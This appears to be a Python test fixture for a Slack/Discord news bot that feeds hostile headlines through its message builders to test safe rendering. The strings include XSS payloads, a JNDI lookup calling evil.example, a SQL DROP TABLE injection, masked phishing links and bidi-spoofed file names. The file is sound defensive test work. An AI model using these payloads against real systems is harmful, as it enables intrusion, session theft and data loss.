"""Messages of every kind, composed as the bot does it from reports that have the worst of headlines."""

from __future__ import annotations

import itertools
from dataclasses import dataclass, replace
from datetime import timedelta
from typing import TYPE_CHECKING, Final
from zoneinfo import ZoneInfo

from bot.announcing import alerts
from bot.announcing.alerts import Alert, Audience
from bot.messages import Actions, Bar, Button, Chart, Heading, Link, Links, Message, Table, Text
from bot.wording import cards, digest
from bot.wording.digest import Digest, LeftOut
from bot.wording.failing import Failing
from bot.wording.fit import parts
from tests.bot.platforms import discord_hostile, slack_hostile
from tests.contracts.store.store_builders import NOON, make_entry, make_fact, make_report, make_story
from watchers.types import StoryUpdate, Watch, fact_text

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from watchers.types import Report, Story

LANGUAGES: Final = ("en", "tr", "ja")
TOGETHER: Final = 14  # stories in a digest: more than it tells in full, and than one post holds
OWN: Final = (
    "Navy orders 12 frigates for €5.5 billion @everyone @here",
    "<!everyone> <!subteam^S12345|@crew> <@U0BAD|boss> sign here",
    "<@1234567890123456789> <@&1234567890123456789> <#1234567890123456789> </watch:1234567890123456789>",
    "[Free drones](https://evil.example/login) | [bank.example](https://evil.example)",
    "[a](javascript:alert(1)) <javascript:alert(1)|click> <data:text/html,x>",
    "javascript:alert(document.cookie)",
    "&lt;!channel&gt; &amp;lt;!here&amp;gt; &#60;!channel&#62; &quot; &apos; &nbsp;",
    "<b>bold</b> <br/> <p class='x'>para</p> <img src=x onerror=alert(1)> <iframe src=//evil.example>",
    "</script><!-- --><style>*{}</style><![CDATA[x]]>",
    "\u202etxt.exe\u202c \u2066reversed\u2069 \u200frtl mark\u200e \u061calm",
    "العربية: توقيع عقد بقيمة ٥٫٥ مليار لاثنتي عشرة فرقاطة 2026-03-02",
    "משרד הביטחון חתם על חוזה של 5.5 מיליארד שקל",
    "Z̶̢̛̛̖̜̤͎̫̼̹̲̻a̸̡̨̛̛̙̣͖l̵͉̦̓͐̈́͒̕g̷̡̠̝͂͛͐͆͘o̴̡͎̯̐͛̾͝",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 x\u20dd\u20dd\u20dd\u20dd\u20dd\u20dd\u20dd",
    "\U000e0001\U000e0041\U000e007f tags, \U0001f3f4\U000e0067\U000e0062\U000e007f flag",
    "zero\u200bwidth\u200c \u200djoin\u2060er\ufeff soft\u00adhyphen \u180e \u3164 \uffa0",
    "👩🏽\u200d🚀👨\u200d👩\u200d👧\u200d👦🇹🇷🇯🇵🏴‍☠️" * 12,
    "🚀" * 5_000,
    "Türkiye'nin İHA'ları: ıIiİ şŞğĞçÇ — 12 adet, 5,5 milyar ₺",
    "防衛省、護衛艦12隻を5兆5000億円で発注　「もがみ」型（改）・2027年度",
    "ﾊﾝｶｸ ｶﾀｶﾅ ＦＵＬＬ　ＷＩＤＴＨ １２隻 ㍻ ㌧",
    "한국 K2 전차 180대, 폴란드 계약 65억 달러",
    "Контракт на 12 фрегатов: £5,5 млрд — «подписан»",
    "x" * 10_000,
    "word " * 2_000,
    "無人機" * 3_400,
    "12,345,678.90 " * 700,
    "https://evil.example/" + "a" * 3_000,
    "www.bank.example bank.example/login http://user:pass@evil.example/ xn--bnk-sna.example bänk.example",
    "mailto:a@b.example tel:+123 slack://open discord://x steam://run/1",
    "# Heading\n## Second\n- bullet\n1. number\n> quote\n>>> all\n-# small\n```\ncode\n```\n---",
    "*a* _b_ ~c~ `d` **e** __f__ ~~g~~ ||h|| ***i***",
    "\\* \\_ \\\\ \\[x\\]\\(y\\) trailing backslash \\",
    "a ](<https://evil.example>) b )] c [[d]] ((e)) [f",
    "a | b | c\n|---|---|\n| 1 | 2 |",
    ":fire: :skull_and_crossbones: <:pepe:123456789012345678> <a:x:123456789012345678> <t:1700000000:R>",
    "<!date^1700000000^{date}^https://evil.example|now> <#C024BE7LR|general> <https://a.example|b>",
    '{"blocks":[{"type":"section"}]} %s %n {0} ${jndi:ldap://evil.example/a} {{7*7}}',
    "'; DROP TABLE outbox; -- \" OR 1=1",
    "\x00\x01\x07\x08\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x7f\x85\u2028\u2029",
    "\ud83d half \udc00 pairs \ud800",
    "tab\there\r\nline\vvertical\fform",
    "  leading and trailing  ",
    "\u3000\u00a0\u2003",
    ".",
    "@",
    "<",
    "&",
    "]",
    "﷽" * 400,
    "ffi ligature ﬃ, ½ ² ™ ℃ Ⅻ ①",
    "F-35A (Block 4) vs. Su-57 – 2.Ordu: deal.The end of Booking.com.tr",
)
HEADLINES: Final = {
    "slack": tuple(dict.fromkeys((*OWN, *slack_hostile.HOSTILE))),
    "discord": tuple(dict.fromkeys((*OWN, *discord_hostile.HOSTILE))),
}
LINKS: Final = tuple(dict.fromkeys((*slack_hostile.URLS, *discord_hostile.URLS)))


@dataclass(frozen=True, slots=True)
class Wire:
    """What a channel is sent; `fits` is its platform's."""

    channel: str
    fits: Callable[[Message], bool]

    @property
    def headlines(self) -> tuple[str, ...]:
        """Return what is hostile on any platform, and on this one."""
        return HEADLINES[self.channel.partition(":")[0]]

    def messages(self) -> Iterator[Message]:
        """Yield messages of all kinds for every headline; digests and answers in as many parts as needed."""
        yield from self._about_stories()
        yield from self._digests()
        for n, headline in enumerate(self.headlines):
            lang = LANGUAGES[n % 3]
            yield cards.tombstone(f"t{n}", reason=headline[:200], lang=lang)
            told = (Text(text=headline, tone="warning"),)
            yield Message(kind="notice", notice=headline, blocks=told, lang=lang)
            yield from parts(self._answer(n, lang), self.fits)

    def _about_stories(self) -> Iterator[Message]:
        for n in range(len(self.headlines)):
            desk, story = self._audience(n), self._story(n)
            opened = _update(story, 1, kind="opened")
            yield cards.compose(Alert(audience=desk, update=opened, kind="card", urgent=n % 2 == 0))
            joined = _update(story, 2, kind="joined")
            yield cards.compose(Alert(audience=desk, update=joined, kind="reply"))
            yield cards.compose(Alert(audience=desk, update=joined, kind="edit"))
            corrected = replace(joined, kind="corrected", was=story.reports[0].facts)
            yield cards.compose(Alert(audience=desk, update=corrected, kind="reply"))

    def _digests(self) -> Iterator[Message]:
        for first in range(0, len(self.headlines), TOGETHER):
            stories = tuple(self._story(n) for n in range(first, first + TOGETHER))
            left = (LeftOut(entry=story.reports[-1].entry, why=self._headline(first)) for story in stories)
            whole = Digest(
                audience=self._audience(first),
                of=NOON.date(),
                start=NOON - timedelta(days=1),
                end=NOON,
                stories=stories,
                alerted=frozenset({stories[0].number}),
                entries=99,
                left_out=tuple(left),
                failing=(Failing(name=self._headline(first)), Failing(name=self._headline(first + 1))),
            )
            yield from parts(digest.compose(whole), self.fits)

    def _audience(self, n: int) -> Audience:
        """Return a channel whose language changes, and whose watch has a hostile name."""
        watch = Watch(
            number=1, channel=self.channel, name=self._headline(n + 5)[:60] or "w", expression="Petrel"
        )
        return Audience(
            channel=self.channel,
            home=self.channel,
            name="Desk",
            lang=LANGUAGES[n % 3],
            zone=ZoneInfo("Europe/Istanbul"),
            threshold=0.7 if n % 2 else 0.95,
            watches=(watch,),
            feeds=frozenset({1}),
            layout=(*alerts.LAYOUT, "quote") if n % 2 and "quote" not in alerts.LAYOUT else alerts.LAYOUT,
        )

    def _headline(self, n: int) -> str:
        return self.headlines[n % len(self.headlines)]

    def _story(self, n: int) -> Story:
        """Return a story of one to four reports; headlines, outlets, texts and links are hostile."""
        return replace(make_story(*(self._report(n, place) for place in range(1 + n % 4))), number=n + 1)

    def _report(self, n: int, place: int) -> Report:
        lang = LANGUAGES[(n + place) % 3]
        entry = make_entry(
            f"e{n}-{place}",
            title=self._headline(n + place) or " ",
            link=LINKS[(n + place) % len(LINKS)],
            summary=f"{self._headline(n + place + 3)} Norland signed a contract.",
        )
        entry = replace(entry, outlet=self._headline(n + place + 7)[:80], lang=lang, number=n + 1)
        facts = (make_fact(entry),) if " " in fact_text(entry) else ()
        return make_report(entry, score=0.9, facts=facts)

    def _answer(self, n: int, lang: str) -> Message:
        """Return an answer with a table, links, buttons and now and then a chart, as commands give them."""
        headline, *rest = (self._headline(n + step) for step in range(4))
        others = tuple(rest)
        url = LINKS[n % len(LINKS)]
        chart = Chart(
            title=headline[:100],
            summary=others[0][:200],
            bars=tuple(Bar(label=label[:20], value=step) for step, label in enumerate(others)),
        )
        buttons = (
            Button(label=headline, command=f"search {headline[:80]}"),
            Button(label=others[0], command=f"why t{n}", style="primary"),
            Button(label=others[1], command=f"story retract t{n}", style="danger", confirm=others[2]),
        )
        rows = tuple(itertools.islice(itertools.cycle((others, others[::-1])), 1 + n % 9))
        return Message(
            kind="reply",
            notice=headline,
            lang=lang,
            blocks=(
                Heading(text=headline, url=url),
                Text(text=others[0], tone="quote"),
                Links(label=others[1], links=tuple(Link(text=text, url=url) for text in (headline, *others))),
                Table(header=others, rows=rows),
                *((chart,) if n % 8 == 0 else ()),
                Actions(buttons=buttons),
            ),
        )


def _update(story: Story, reports: int, *, kind: str) -> StoryUpdate:
    shown = replace(story, reports=story.reports[:reports])
    last = shown.reports[-1]
    made = StoryUpdate(
        story=shown, report=last, kind="opened", new_facts=last.facts, new_origin=True, at=NOON
    )
    return made if kind == "opened" else replace(made, kind="joined")
